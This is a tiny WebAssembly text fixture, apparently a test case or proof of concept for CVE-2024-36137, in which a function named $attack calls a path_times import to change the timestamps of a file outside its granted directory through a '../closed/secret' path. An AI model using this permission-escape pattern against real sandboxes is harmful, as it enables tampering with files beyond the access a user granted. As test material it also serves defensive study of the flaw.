;; Changes the times of a file above its directory.
;; stands for: CVE-2024-36137
;; grant: above
;; path: ../closed/secret or closed/secret
(func $attack (result i32) (call $path_times (i32.const 3) (i32.const 1) (i32.const 64) (i32.const $LEN) (i64.const 0) (i64.const 0) (i32.const 10)))
